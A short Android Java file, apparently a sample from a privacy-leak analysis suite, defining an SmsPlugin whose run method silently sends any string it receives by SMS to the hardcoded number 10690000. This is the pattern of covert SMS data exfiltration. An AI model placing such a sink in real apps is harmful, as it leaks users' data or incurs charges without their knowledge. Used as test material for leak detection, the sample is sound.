package cn.privlens.suite.unknown_name;

import android.telephony.SmsManager;

public class SmsPlugin extends Plugin {
    @Override
    public void run(String s) { SmsManager.getDefault().sendTextMessage("10690000", null, s, null, null); }
}
